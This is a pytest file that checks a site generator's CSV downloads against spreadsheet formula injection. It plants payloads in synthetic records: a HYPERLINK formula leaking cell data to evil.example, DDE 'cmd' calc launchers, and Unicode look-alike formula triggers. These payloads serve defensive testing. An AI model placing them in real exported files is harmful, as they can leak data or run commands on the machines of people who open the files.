"""CSV downloads are safe to open in a spreadsheet: no text cell can run as a formula (OWASP CSV injection).

A SYNTHETIC data folder puts formula-like text (=, +, -, @, tab, carriage return, leading spaces, full-width
forms, and formulas after an embedded ";" or tab) into every free-text field that reaches a CSV download.
Every CSV is parsed back, also as a spreadsheet in a ";" or tab locale would split it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from synth import write, write_dataset

from conftest import run_build
from pledges import models as m
from pledges.yamlio import parse_yaml

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1;"click")',
    "+SUM(A:A)*cmd|' /C calc'!A0",
    "-5 days late",
    "@SUM(A:A)",
    "\t=SUM(A:A)",
    "  =SUM(A:A)",
    "\uff1dSUM(A:A)",
    "\ufe66SUM(A:A)",  # small equals sign: NFKC folds it into "="
    "\ufe62cmd|' /C calc'!A0",  # small plus sign
    "\u2212SUM(A:A)",  # minus sign
    'Plain name;=SUM(A:A),+cmd|x\t@SUM(A:A) "quoted"',  # formulas after a separator of another locale
]
# A line break (or a carriage return) in a one-line field is refused by `pledges check`; in long text
# (Text fields: a correction, a source's last error) a line break is allowed, so it is tried there.
MULTILINE_PAYLOADS = ["\n-SUM(A:A)", "First line\n=SUM(A:A)"]
TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\u2212\ufe6b\u207c\u208c\u207a\u208a\ufb29")


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def load(path: Path, model):
    return model.model_validate(parse_yaml(path.read_text(encoding="utf-8")).data)


def hostile_records(root: Path) -> dict[str, str]:
    """Rewrite the synthetic records with a payload at the start of every free-text field that a CSV shows.

    Returns {what: payload} for the assertions.
    """
    used: dict[str, str] = {}
    counter = iter(range(1000))

    def text(what: str) -> str:
        used[what] = payload(next(counter))
        return used[what]

    long_texts = iter(range(1000))

    def long_text(what: str) -> str:
        used[what] = MULTILINE_PAYLOADS[next(long_texts) % len(MULTILINE_PAYLOADS)]
        return used[what]

    for path in sorted((root / "providers").glob("*.yaml")):
        p = load(path, m.Provider)
        update = {"name": text(f"provider name {p.id}"), "group": text(f"group {p.id}"),
                  "legal_entities": [text(f"legal entity {p.id}"), text(f"legal entity 2 {p.id}")],
                  "brands": [text(f"brand {p.id}")]}
        update["source_names"] = [n.model_copy(update={"name": update["name"]}) for n in p.source_names]
        write(root, p.model_copy(update=update))
    for path in sorted((root / "pledges").glob("*.yaml")):
        p = load(path, m.Pledge)
        write(root, p.model_copy(update={"title": text(f"pledge title {p.id}")}))
    for path in sorted((root / "sources").glob("*.yaml")):
        s = load(path, m.Source)
        write(root, s.model_copy(update={"name": text(f"source name {s.id}"), "publisher": text(f"source publisher {s.id}"),
                                         "licence": text(f"source licence {s.id}")}))
    for path in sorted((root / "status").glob("*.yaml")):
        s = load(path, m.SourceStatus)
        write(root, s.model_copy(update={"last_error": long_text(f"last error {s.id}")}))
    for path in sorted((root / "corrections").glob("*.yaml")):
        c = load(path, m.Correction)
        write(root, c.model_copy(update={"text": long_text(f"correction {c.id}")}))
    publisher, licence, segment = text("statistic publisher"), text("statistic licence"), text("statistic service")
    for path in sorted((root / "releases").glob("*.yaml")):
        r = load(path, m.Release)
        write(root, r.model_copy(update={"publisher": publisher, "licence": licence}))
    for path in sorted((root / "series").glob("*.yaml")):
        s = load(path, m.Series)
        write(root, s.model_copy(update={"points": [p.model_copy(update={"segment": segment}) for p in s.points]}))
    return used


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    root = tmp_path_factory.mktemp("formulas")
    data = write_dataset(root / "data")
    used = hostile_records(data)
    code, out, err = run_build(data, root / "site")
    assert code == 0, out + err
    return root / "site", used


def csv_files(site: Path) -> list[Path]:
    files = sorted((site / "data").rglob("*.csv"))
    assert len(files) > 10
    return files


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def starts_a_formula(cell: str) -> bool:
    return (cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)) and not is_number(cell)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_csv_cell_starts_a_formula(formula_site, delimiter):
    """Split as a spreadsheet in an English (","), Dutch (";") or tab locale would: no cell runs."""
    site, _ = formula_site
    for path in csv_files(site):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter=delimiter):
            for cell in row:
                assert not starts_a_formula(cell), f"{path.name}: {cell!r} would run as a formula"


def test_no_formula_even_when_quotes_are_ignored(formula_site):
    """A reader that ignores quoting and splits on every separator and line break still finds no formula."""
    site, _ = formula_site
    for path in csv_files(site):
        for piece in re.split(r"[,;\t\r\n]", path.read_text(encoding="utf-8")):
            cell = piece.strip(' "')
            assert not starts_a_formula(cell), f"{path.name}: {piece!r} would run as a formula"


def without_quotes(text: str) -> str:
    return text.replace("'", "")


def test_every_hostile_field_reaches_a_csv_neutralised(formula_site):
    """Each payload is in a CSV, changed only by inserted single quotes: nothing is lost but the formula."""
    site, used = formula_site
    cells: list[str] = []
    for path in csv_files(site):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                cells += row
    for what, text in used.items():
        found = [c for c in cells if without_quotes(text) in without_quotes(c)]
        assert found, f"{what}: {text!r} is in no CSV"
        assert all(c != text for c in found), f"{what}: {text!r} written as it is"
    providers = list(csv.DictReader((site / "data/providers.csv").open(encoding="utf-8", newline="")))
    assert len(providers) == 4
    for row in providers:
        raw = used[f"provider name {row['id']}"]
        assert row["name"] != raw and without_quotes(row["name"]) == without_quotes(raw)
        assert row["name"].startswith("'") or not raw.lstrip(" ").startswith(TRIGGERS)


def test_numbers_stay_numbers(formula_site):
    site, _ = formula_site
    text = (site / "data/statistics.csv").read_text(encoding="utf-8")
    header, first = text.splitlines()[:2]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    value = rows[0].index("value")
    assert all(is_number(r[value]) for r in rows[1:])
    raw = next(csv.reader([first], quoting=csv.QUOTE_NONNUMERIC))  # bare (unquoted) cells come back as floats
    assert isinstance(raw[value], float) and isinstance(raw[rows[0].index("industry_average")], float)


def test_negative_figures_stay_numbers_but_text_that_looks_like_one_does_not():
    """Figures (int, float) are never formulas and stay numeric; the same characters as text are text."""
    from pledges.site.generate import csv_text

    text = csv_text(["trend", "count", "note", "kept"], [{"trend": -1.5, "count": 3, "note": "-1.5", "kept": True},
                                                       {"trend": None, "count": 0, "note": "-5 days", "kept": False}])
    assert text == '"trend","count","note","kept"\n-1.5,3,"\'-1.5","true"\n"",0,"\'-5 days","false"\n'


def test_json_downloads_keep_the_text_exactly(formula_site):
    site, used = formula_site
    providers = json.loads((site / "data/providers.json").read_text(encoding="utf-8"))
    assert {p["id"]: p["name"] for p in providers} == {
        what.removeprefix("provider name "): text for what, text in used.items() if what.startswith("provider name ")}
    sources = json.loads((site / "data/sources.json").read_text(encoding="utf-8"))
    assert {s["source"]: s["last_error"] for s in sources if s["last_error"]} == {
        what.removeprefix("last error "): text for what, text in used.items() if what.startswith("last error ")}


def test_datapackage_still_valid(formula_site):
    from frictionless import validate

    report = validate(str(formula_site[0] / "data/datapackage.json"))
    assert report.valid, report.flatten(["type", "note"])[:10]


def test_a_row_in_several_tables_has_the_same_text_in_each() -> None:
    from pledges.site.tables import TableText, csv_text, json_text

    shared = {"id": "p1", "note": "=1+1", "count": 2}
    other = {"id": "p2", "note": "plain", "count": 3}
    text = TableText()
    assert text.csv(["id", "note"], [shared]) == csv_text(["id", "note"], [shared]) == '"id","note"\n"p1","\'=1+1"\n'
    # the same row in a wider table, then in the site-wide one: its own columns each time, neutralised each time
    assert text.csv(["id", "note", "count"], [shared, other]) == csv_text(["id", "note", "count"], [shared, other])
    assert text.json(["id", "count"], [shared, other]) == json_text(["id", "count"], [shared, other])
    assert text.json(["id", "count"], [other]) == '[\n{"id":"p2","count":3}\n]\n'
